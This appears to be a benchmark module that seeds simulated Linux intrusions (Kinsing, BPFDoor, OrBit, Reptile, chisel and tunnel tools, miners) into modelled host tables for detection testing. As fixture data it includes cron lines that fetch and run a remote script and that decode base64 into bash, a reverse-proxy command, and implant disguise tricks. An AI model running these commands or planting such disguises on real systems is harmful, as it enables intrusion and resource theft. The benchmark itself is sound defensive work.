"""Implants, rootkits, miners and tunnels, as public reports describe them (TA0011, TA0040)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.known import scene


def kinsing(host: Host) -> None:
    """T1610, T1496: Kinsing: the loader and its miner in /tmp, a job that downloads it again, a preloaded libsystem."""
    row = scene.work(host)
    uid, user = row["uid"], scene.user_of(host, row["uid"])
    loader = scene.spawn(host, "/tmp/kinsing", "/tmp/kinsing", uid=uid, parent=row["pid"], cwd="/tmp", static=True, threads=14)  # fmt: skip
    miner = scene.spawn(host, "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi", uid=uid, parent=loader, cwd="/tmp", static=True, threads=9)  # fmt: skip
    scene.listen(host, loader, 31_458)
    scene.connect(host, loader, "203.0.113.140", 80)
    scene.connect(host, miner, "203.0.113.141", 80)
    scene.cron(host, scene.spool(host, user), "* * * * *", "wget -q -O - http://203.0.113.140/d.sh | sh > /dev/null 2>&1")  # fmt: skip


def bpfdoor(host: Host) -> None:
    """T1205.002: BPFDoor: dressed as a daemon, its file in /dev/shm gone, a packet socket and no port."""
    pid = scene.spawn(
        host, "/dev/shm/kdmtmpflush", "/usr/sbin/console-kit-daemon --no-daemon", name="console-kit-dae", on_disk="0"
    )  # fmt: skip
    scene.raw_socket(host, pid)
    scene.put(host, "/run/haldrund.pid", mode="0644")


def bpfdoor_quiet(host: Host) -> None:
    """T1205.002: the same in a later form: a program in /usr/sbin under a plausible name, and a packet socket."""
    pid = scene.spawn(
        host, "/usr/sbin/hald-addon-acpi", "hald-addon-acpi: listening on acpi kernel interface"
    )
    scene.raw_socket(host, pid)


def orbit(host: Host) -> None:
    """T1574.006: OrBit: the loader itself is patched to load a library from a folder of its own; ld.so.preload is clean."""
    library = "/lib/libntpVnQE6mk/libdl.so"
    for row in host.tables["processes"]:
        if row["path"] and row["parent"] == "1":
            scene.load(host, row["pid"], library)


def reptile(host: Host) -> None:
    """T1014: Reptile: module, files and processes hide themselves; a taint and a changed /etc/modules are left."""
    scene.control(host, "kernel.tainted", "12288")
    path = "/etc/modules" if scene.debian(host) else "/etc/modules-load.d/reptile.conf"
    scene.put(host, path, "planted", age_s=700_000)


def module_forced(host: Host) -> None:
    """T1014: only the taint of a module that was forced in and hid itself."""
    scene.control(host, "kernel.tainted", "4098")


def gsocket(host: Host) -> None:
    """T1572, T1036.004: gs-netcat as `defunct` in a user's home, named like a kernel thread, back by .profile and cron."""
    uid = scene.uid_of(host, "deploy")
    pid = scene.spawn(
        host, "/home/deploy/.config/htop/defunct", "[mm_percpu_wq]", name="defunct", uid=uid, static=True
    )
    scene.variable(host, pid, GS_ARGS="-liqD", HISTFILE="/dev/null")
    scene.connect(host, pid, "192.0.2.200", 443)
    scene.put(host, "/home/deploy/.profile", "planted", uid=uid)
    scene.cron(host, scene.spool(host, "deploy"), "0 * * * *", '{ echo L3Vzci9iaW4vcGtpbGwgLTAgLVUxMDAx|base64 -d|bash;} 2>/dev/null #1b5b324a50524e47')  # fmt: skip


def sliver_asleep(host: Host) -> None:
    """T1071.001: the same, asleep between beacons, in the package folder: one process, no socket."""
    scene.spawn(host, "/usr/lib/systemd/systemd-hwcheck", "/usr/lib/systemd/systemd-hwcheck", static=True, threads=9)  # fmt: skip


def chisel(host: Host) -> None:
    """T1572: chisel from /var/tmp gives an outsider a SOCKS proxy into the network."""
    row = scene.work(host)
    pid = scene.spawn(
        host, "/var/tmp/ch", "/var/tmp/ch client --fingerprint EXAMPLE 203.0.113.5:8080 R:1080:socks", uid=row["uid"], static=True, threads=7
    )  # fmt: skip
    scene.connect(host, pid, "203.0.113.5", 8080)
    for last in (14, 15, 16, 17):
        scene.connect(host, pid, f"10.20.40.{last}", 445 + last)


def cloud_tunnel(host: Host) -> None:
    """T1572: a signed tunnel of a known vendor, with the intruder's token, as a unit and a package."""
    scene.package(host, "cloudflared", "2025.8.1")
    scene.unit(host, "cloudflared.service", "cloudflared")
    pid = scene.spawn(
        host, "/usr/bin/cloudflared", "/usr/bin/cloudflared --no-autoupdate tunnel run --token EXAMPLE-NOT-A-REAL-TOKEN",
        unit="cloudflared.service", static=True, threads=12,
    )  # fmt: skip
    for last in (33, 34, 133, 134):
        scene.connect(host, pid, f"198.51.100.{last}", 7844)
    scene.listen(host, pid, 20_241, "127.0.0.1")


def mesh_network(host: Host) -> None:
    """T1219: a mesh VPN joins the host to somebody else's network: interface, daemon, rules."""
    pid = scene.spawn(
        host, "/usr/sbin/tailscaled", "/usr/sbin/tailscaled --state=mem: --socket=/run/.ts.sock --tun=userspace-networking", static=True, threads=13
    )  # fmt: skip
    scene.listen(host, pid, 41_641, protocol=17)
    scene.connect(host, pid, "192.0.2.73", 443)


def dns_tunnel(host: Host) -> None:
    """T1071.004: answers come by DNS from an outsider's server; one UDP socket of a small program."""
    row = scene.work(host)
    pid = scene.spawn(
        host, "/usr/share/misc/magic.mgc.d/ident", "ident -q", name="ident", uid=row["uid"], parent=row["pid"]
    )
    scene.connect(host, pid, "203.0.113.53", 53, protocol=17)


def proxyware(host: Host) -> None:
    """T1496: bandwidth sold to others by a container that looks like a network tool."""
    pid = scene.container(
        host,
        "netstat-exporter",
        "docker.example/traffmonetizer/cli_v2:latest",
        "/app/Cli start accept --token EXAMPLE",
    )
    scene.connect(host, pid, "198.51.100.150", 443)


def slow_miner(host: Host) -> None:
    """T1496: XMRig renamed and niced, with huge pages set for it; its pool is a host inside the network."""
    scene.control(host, "vm.nr_hugepages", "1280")
    pid = scene.spawn(
        host,
        "/usr/lib/apt/methods/mirror-sync",
        "/usr/lib/apt/methods/mirror-sync -c /etc/apt/mirror.conf",
        static=True,
        threads=3,
    )
    scene.connect(host, pid, "10.20.77.14", 3333)


ATTACKS = (
    kinsing,
    bpfdoor,
    bpfdoor_quiet,
    orbit,
    reptile,
    module_forced,
    gsocket,
    sliver_asleep,
    chisel,
    cloud_tunnel,
    mesh_network,
    dns_tunnel,
    proxyware,
    slow_miner,
)
